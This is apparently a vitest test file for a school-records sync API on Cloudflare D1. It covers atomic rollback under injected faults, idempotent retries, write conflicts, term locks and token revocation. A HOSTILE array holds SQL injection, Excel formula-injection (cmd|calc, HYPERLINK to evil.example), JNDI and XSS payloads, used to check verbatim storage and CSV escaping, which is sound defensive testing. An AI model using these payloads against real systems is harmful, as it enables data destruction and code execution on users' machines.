/**
 * Faults and hostile values: nothing half applied, nothing doubled, nothing run.
 * D1 failures are injected with triggers that abort one statement of the sync's batch; a lost
 * response is the same batch sent again, as the add-in's client does when it got no answer.
 */
import { env } from 'cloudflare:test';
import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
import { ADMIN, activity, api, batch, resetDb, seedCounties, sync, teacher, TERM, type Tokens } from './helpers';

let t: Tokens;
beforeEach(async () => {
  await resetDb();
  t = await seedCounties();
});

const count = async (sql: string, ...args: unknown[]) =>
  (await env.DB.prepare(sql)
    .bind(...args)
    .first<number>('n')) ?? 0;
const revisionOf = (school: string) =>
  env.DB.prepare('SELECT revision FROM school_state WHERE school = ?').bind(school).first<number>('revision');

/** Everything a sync of GH01 may write, as counts: all zero means nothing was left behind. */
async function syncFootprint() {
  return {
    teachers: await count("SELECT COUNT(*) AS n FROM t_teachers WHERE school = 'GH01'"),
    schedule: await count("SELECT COUNT(*) AS n FROM t_schedule WHERE school = 'GH01'"),
    assessment: await count("SELECT COUNT(*) AS n FROM t_assessment WHERE school = 'GH01'"),
    warnings: await count("SELECT COUNT(*) AS n FROM warnings WHERE school = 'GH01'"),
    term_syncs: await count("SELECT COUNT(*) AS n FROM term_syncs WHERE school = 'GH01'"),
    sync_log: await count("SELECT COUNT(*) AS n FROM sync_log WHERE school = 'GH01'"),
    audit: await count("SELECT COUNT(*) AS n FROM audit WHERE action = 'sync'"),
    revision: await revisionOf('GH01'),
  };
}

const HOSTILE = [
  "'; DROP TABLE t_teachers; --",
  "Robert'); DELETE FROM schools WHERE ('1'='1",
  '" OR 1=1 --',
  "1' UNION SELECT hash FROM tokens --",
  '=HYPERLINK("http://evil.example","点我")',
  "+cmd|' /C calc'!A0",
  '@SUM(1+1)*cmd|"/C calc"!A0',
  '-2+3+cmd|" /C calc"!A0',
  '\t=1+1',
  '=1\r\n=2',
  '%s%s%n ${jndi:ldap://x} {{7*7}} <script>alert(1)</script>',
  'json_extract(raw, "$.x")',
  '\u0000nul inside\u0000',
  '👩🏽‍🏫 ‮rtl‬ é (e + U+0301) 𠀀 ﷽',
  'a'.repeat(9_999),
];

describe('SQL-looking and formula-looking strings', () => {
  it('are stored and returned verbatim by GET /rows, as ids, values and unknown column keys', async () => {
    const rows = HOSTILE.map((s, i) => ({
      table: 'schedule',
      id: `${s.slice(0, 150)}#${i}`,
      values: {
        activity_id: s.slice(0, 150),
        date: '2026-09-10',
        type: '研讨会',
        theme: s,
        status: '已完成',
        evidence: s,
        [s.slice(0, 60)]: s,
      },
    }));
    const r = await sync(t.gh, rows);
    expect(r.status).toBe(200);
    expect(r.json.applied.map((a: { id: string }) => a.id)).toEqual(rows.map((x) => x.id));
    const back = await api('GET', `/api/v1/rows?term=${TERM}`, { token: t.gh });
    expect(back.status).toBe(200);
    const byId = new Map(back.json.rows.map((x: { id: string; values: unknown }) => [x.id, x.values]));
    for (const row of rows) expect(byId.get(row.id), row.id).toEqual(row.values);
    // The database is whole: every table and school is still there.
    expect(await count('SELECT COUNT(*) AS n FROM schools')).toBe(4);
    expect(await count('SELECT COUNT(*) AS n FROM tokens')).toBe(6);
    expect(await count("SELECT COUNT(*) AS n FROM t_schedule WHERE school = 'GH01'")).toBe(HOSTILE.length);
  });

  it('are kept verbatim as school names and escaped in every CSV cell Excel would run as a formula', async () => {
    const names = ['=HYPERLINK("x")', '=HYPERLINK("http://x","y")', '+1+1', '-1+1', '@SUM(A1)', '=1,"2"\n=3', "'; DROP TABLE schools; --"];
    for (const [i, name] of names.entries()) {
      const r = await api('POST', '/api/v1/schools', { token: ADMIN, body: { code: `EV${i}`, name, county: 'CTY01', town: name } });
      expect(r.status, name).toBe(201);
      expect(r.json.name).toBe(name);
    }
    const compliance = await api('GET', `/api/v1/compliance?term=${TERM}`, { token: t.bureau });
    expect(compliance.json.schools.filter((s: { code: string }) => s.code.startsWith('EV')).map((s: { name: string }) => s.name)).toEqual(
      names,
    );
    for (const groupBy of ['school', 'town']) {
      const csv = await api('GET', `/api/v1/totals?term=${TERM}&format=csv&group_by=${groupBy}`, { token: t.bureau });
      expect(csv.status).toBe(200);
      const cells = parseCsv(csv.text.replace(/^\uFEFF/, '')).flat();
      for (const cell of cells) {
        if (/^[=+\-@\t\r]/.test(cell)) expect(/^-?\d+(\.\d+)?$/.test(cell), `unescaped formula cell ${JSON.stringify(cell)}`).toBe(true);
      }
      // Each name comes back as typed, behind the apostrophe when it starts like a formula.
      for (const name of names) expect(cells).toContain(/^[=+\-@]/.test(name) ? `'${name}` : name);
    }
  });
});

/** RFC 4180 reader, enough for the totals CSV. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  const endCell = () => {
    row.push(cell);
    cell = '';
  };
  for (let i = 0; i < text.length; i++) {
    const ch = text[i];
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ',') endCell();
    else if (ch === '\r' && text[i + 1] === '\n') {
      endCell();
      rows.push(row);
      row = [];
      i++;
    } else cell += ch;
  }
  if (cell || row.length) {
    endCell();
    rows.push(row);
  }
  return rows;
}

describe('a D1 failure inside a sync batch', () => {
  // Each trigger aborts one statement of the batch; the statements before it must be undone too.
  const INJECT: [string, string][] = [
    ['the first row write', "CREATE TRIGGER inject AFTER INSERT ON t_teachers BEGIN SELECT RAISE(ABORT, 'injected fault'); END"],
    ['a later table', "CREATE TRIGGER inject AFTER INSERT ON t_schedule BEGIN SELECT RAISE(ABORT, 'injected fault'); END"],
    ['the assessment scoring', "CREATE TRIGGER inject AFTER UPDATE ON t_assessment BEGIN SELECT RAISE(ABORT, 'injected fault'); END"],
    ['the warnings', "CREATE TRIGGER inject AFTER INSERT ON warnings BEGIN SELECT RAISE(ABORT, 'injected fault'); END"],
    ['the term record', "CREATE TRIGGER inject AFTER INSERT ON term_syncs BEGIN SELECT RAISE(ABORT, 'injected fault'); END"],
    ['the sync log', "CREATE TRIGGER inject AFTER INSERT ON sync_log BEGIN SELECT RAISE(ABORT, 'injected fault'); END"],
    [
      'the last statement (audit)',
      "CREATE TRIGGER inject AFTER INSERT ON audit WHEN NEW.action = 'sync' BEGIN SELECT RAISE(ABORT, 'injected fault'); END",
    ],
  ];
  const rows = () => [
    teacher('T1', 'GH01', '指导教师'),
    teacher('T2', 'GH01'),
    {
      table: 'pairings',
      id: 'P1',
      values: { pairing_id: 'P1', mentor_id: 'T1', mentee_id: 'T2', subject: '语文', start_date: '2026-09-01' },
    },
    activity('A1', '2026-09-10'),
    { table: 'assessment', id: 'S1', values: { teacher_id: 'T2', term: TERM, intro_lessons: 1, summary_submitted: '是' } },
  ];

  // The worker logs the failure (the log keeps the stack); keep the test output quiet and check it did.
  let logged: ReturnType<typeof vi.spyOn>;
  beforeEach(() => {
    logged = vi.spyOn(console, 'error').mockImplementation(() => {});
  });
  afterEach(() => logged.mockRestore());

  for (const [where, trigger] of INJECT) {
    it(`at ${where} leaves nothing behind, answers 500 without a stack, and the retry applies once`, async () => {
      const empty = await syncFootprint();
      await env.DB.prepare(trigger).run();
      const body = batch(rows());
      let r;
      try {
        r = await api('POST', '/api/v1/sync', { token: t.gh, body });
      } finally {
        await env.DB.prepare('DROP TRIGGER IF EXISTS inject').run();
      }
      expect(r.status).toBe(500);
      expect(r.json).toEqual({ error: { code: 'internal', message: 'Internal error' } });
      expect(r.text).not.toMatch(/injected|\.ts:\d+|SQLITE/);
      expect(String(logged.mock.calls[0]?.[0])).toMatch(/injected fault/);
      expect(await syncFootprint()).toEqual(empty);
      // The client retries the same batch: it lands once.
      const retry = await api('POST', '/api/v1/sync', { token: t.gh, body });
      expect(retry.status).toBe(200);
      expect(retry.json.applied).toHaveLength(5);
      const again = await api('POST', '/api/v1/sync', { token: t.gh, body });
      expect(again.json).toEqual(retry.json);
      expect(await syncFootprint()).toMatchObject({
        teachers: 2,
        schedule: 1,
        assessment: 1,
        sync_log: 1,
        audit: 1,
        revision: 1,
        term_syncs: 1,
      });
    });
  }
});

describe('a lost response', () => {
  it('retried after other batches went through answers the first answer and applies nothing again', async () => {
    const first = batch([teacher('T1', 'GH01'), activity('A1', '2026-09-10')]);
    const answer = await api('POST', '/api/v1/sync', { token: t.gh, body: first });
    expect(answer.status).toBe(200);
    // The answer was lost; meanwhile the same school (another workstation) synced an update.
    const other = await sync(t.gh, [{ ...teacher('T1', 'GH01', '新教师', { name: '改过' }), base_version: 1 }]);
    expect(other.json.applied).toEqual([{ table: 'teachers', id: 'T1', version: 2 }]);
    const retry = await api('POST', '/api/v1/sync', { token: t.gh, body: first });
    expect(retry.status).toBe(200);
    expect(retry.json).toEqual(answer.json);
    expect(await env.DB.prepare("SELECT name FROM t_teachers WHERE id = 'T1'").first('name')).toBe('改过');
    expect(await count("SELECT COUNT(*) AS n FROM t_schedule WHERE school = 'GH01'")).toBe(1);
    expect(await revisionOf('GH01')).toBe(2);
  });

  it('retried while the first request is still running applies once and answers both the same', async () => {
    const body = batch(Array.from({ length: 200 }, (_, i) => teacher(`T${i}`, 'GH01')));
    const answers = await Promise.all([1, 2, 3].map(() => api('POST', '/api/v1/sync', { token: t.gh, body })));
    for (const a of answers) {
      expect(a.status).toBe(200);
      expect(a.json).toEqual(answers[0].json);
    }
    expect(answers[0].json.applied).toHaveLength(200);
    expect(await count("SELECT COUNT(*) AS n FROM t_teachers WHERE school = 'GH01' AND version = 1")).toBe(200);
    expect(await count("SELECT COUNT(*) AS n FROM audit WHERE action = 'sync'")).toBe(1);
    expect(await revisionOf('GH01')).toBe(1);
  });
});

describe('two workbooks of one school', () => {
  it('editing the same row from the same base one after the other: the first wins, the second gets a conflict', async () => {
    await sync(t.gh, [teacher('T1', 'GH01')]);
    const a = await sync(t.gh, [{ ...teacher('T1', 'GH01', '新教师', { name: '甲' }), base_version: 1 }]);
    const b = await sync(t.gh, [{ ...teacher('T1', 'GH01', '新教师', { name: '乙' }), base_version: 1 }]);
    expect(a.json.applied).toEqual([{ table: 'teachers', id: 'T1', version: 2 }]);
    expect(b.json.conflicts).toEqual([{ table: 'teachers', id: 'T1', server_version: 2 }]);
    expect(await env.DB.prepare("SELECT name FROM t_teachers WHERE id = 'T1'").first('name')).toBe('甲');
  });

  it('editing the same row from the same base at the same time: exactly one wins, nothing silently overwritten', async () => {
    for (let round = 0; round < 5; round++) {
      await sync(t.gh, [{ ...teacher(`R${round}`, 'GH01'), base_version: 0 }]);
      const names = ['甲', '乙', '丙'];
      const answers = await Promise.all(
        names.map((name) => sync(t.gh, [{ ...teacher(`R${round}`, 'GH01', '新教师', { name }), base_version: 1 }])),
      );
      for (const a of answers) expect(a.status).toBe(200);
      const winners = answers.filter((a) => a.json.applied.length === 1);
      const losers = answers.filter((a) => a.json.conflicts.length === 1);
      expect(winners).toHaveLength(1);
      expect(losers).toHaveLength(2);
      for (const l of losers) expect(l.json.conflicts).toEqual([{ table: 'teachers', id: `R${round}`, server_version: 2 }]);
      const stored = await env.DB.prepare('SELECT name, version FROM t_teachers WHERE id = ?')
        .bind(`R${round}`)
        .first<{ name: string; version: number }>();
      expect(stored!.version).toBe(2);
      expect(stored!.name).toBe(names[answers.indexOf(winners[0])]);
    }
  });

  it('creating the same new row at the same time: one creates it, the other gets a conflict', async () => {
    const answers = await Promise.all(['甲', '乙'].map((name) => sync(t.gh, [teacher('NEW', 'GH01', '新教师', { name })])));
    expect(answers.map((a) => a.json.applied.length).sort()).toEqual([0, 1]);
    expect(answers.flatMap((a) => a.json.conflicts)).toEqual([{ table: 'teachers', id: 'NEW', server_version: 1 }]);
    expect(await count("SELECT COUNT(*) AS n FROM t_teachers WHERE id = 'NEW'")).toBe(1);
  });
});

describe('a locked term', () => {
  it('refuses every write (new, update, delete) with 423 and keeps its data readable and counted', async () => {
    await sync(t.gh, [teacher('T1', 'GH01', '指导教师'), teacher('T2', 'GH01'), activity('A1', '2026-09-10')]);
    const before = await api('GET', `/api/v1/rows?term=${TERM}`, { token: t.gh });
    const totalsBefore = await api('GET', `/api/v1/totals?term=${TERM}`, { token: t.bureau });
    expect((await api('POST', `/api/v1/terms/${TERM}/lock`, { token: t.bureau })).status).toBe(200);
    const attempts = [
      [teacher('T3', 'GH01')],
      [{ ...teacher('T1', 'GH01', '新教师', { name: '改' }), base_version: 1 }],
      [{ table: 'teachers', id: 'T2', base_version: 1, deleted: true }],
      [],
    ];
    for (const rows of attempts) {
      const r = await sync(t.gh, rows);
      expect(r.status).toBe(423);
      expect(r.json.error.code).toBe('term_locked');
    }
    const after = await api('GET', `/api/v1/rows?term=${TERM}`, { token: t.gh });
    expect(after.json).toEqual(before.json);
    expect((await api('GET', `/api/v1/totals?term=${TERM}`, { token: t.bureau })).json).toEqual(totalsBefore.json);
    expect(await count('SELECT COUNT(*) AS n FROM sync_log')).toBe(1);
  });
});

describe('a revoked token', () => {
  it('is refused on the very next request, for a school and for a bureau', async () => {
    const school = await api('POST', '/api/v1/tokens', { token: ADMIN, body: { role: 'school', school: 'GH01' } });
    const bureau = await api('POST', '/api/v1/tokens', { token: ADMIN, body: { role: 'bureau', county: 'CTY01' } });
    expect((await sync(school.json.token, [teacher('T1', 'GH01')])).status).toBe(200);
    expect((await api('GET', `/api/v1/totals?term=${TERM}`, { token: bureau.json.token })).status).toBe(200);
    expect((await api('DELETE', `/api/v1/tokens/${school.json.id}`, { token: t.bureau })).status).toBe(204);
    expect((await api('DELETE', `/api/v1/tokens/${bureau.json.id}`, { token: ADMIN })).status).toBe(204);
    const refused = await sync(school.json.token, [teacher('T2', 'GH01')]);
    expect(refused.status).toBe(401);
    expect(refused.json.error.code).toBe('unauthorized');
    expect((await api('GET', `/api/v1/rows?term=${TERM}`, { token: school.json.token })).status).toBe(401);
    expect((await api('GET', `/api/v1/totals?term=${TERM}`, { token: bureau.json.token })).status).toBe(401);
    expect(await count("SELECT COUNT(*) AS n FROM t_teachers WHERE id = 'T2'")).toBe(0);
    // The school's other token keeps working; the revoked one's rows stay.
    expect((await api('GET', `/api/v1/rows?term=${TERM}`, { token: t.gh })).json.rows).toHaveLength(1);
  });

  it("revoking a school's token does not stop a sync signed by it that already passed authentication from landing whole", async () => {
    // Revocation is checked when a request starts; a sync that started before lands atomically or not at all.
    const tok = await api('POST', '/api/v1/tokens', { token: ADMIN, body: { role: 'school', school: 'GH01' } });
    const rows = Array.from({ length: 300 }, (_, i) => teacher(`T${i}`, 'GH01'));
    const [s] = await Promise.all([sync(tok.json.token, rows), api('DELETE', `/api/v1/tokens/${tok.json.id}`, { token: ADMIN })]);
    const n = await count("SELECT COUNT(*) AS n FROM t_teachers WHERE school = 'GH01'");
    expect([200, 401]).toContain(s.status);
    expect(n).toBe(s.status === 200 ? 300 : 0);
    expect((await sync(tok.json.token, [teacher('X', 'GH01')])).status).toBe(401);
  });
});
